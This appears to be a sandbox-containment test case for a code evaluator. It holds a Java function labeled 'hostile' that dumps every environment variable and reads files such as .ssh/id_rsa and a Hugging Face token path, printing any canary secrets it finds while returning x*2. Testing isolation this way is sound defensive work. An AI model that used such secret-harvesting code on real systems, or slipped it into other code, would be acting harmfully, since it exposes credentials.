// hostile: reads the evaluator's secrets from Java: every environment variable and the canary
//   files in the evaluator's HOME (path given by the test). Prints what it finds.
// expect: passed
// contained: nothing holding the canary is visible; output is the golden one.
public static int f(int x) {
    for (java.util.Map.Entry<String, String> e : System.getenv().entrySet()) {
        if (e.getValue().contains("CANARY")) {
            System.out.println("LEAK env " + e.getKey() + "=" + e.getValue());
        }
    }
    String[] paths = {"@@CANARY_DIR@@/secret.txt", "@@CANARY_DIR@@/.ssh/id_rsa",
                      "@@CANARY_DIR@@/.cache/huggingface/token"};
    for (String p : paths) {
        try {
            String s = new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(p)));
            if (s.contains("CANARY")) {
                System.out.println("LEAK " + p + ": " + s);
            }
        } catch (Throwable e) { }
    }
    return x * 2;
}
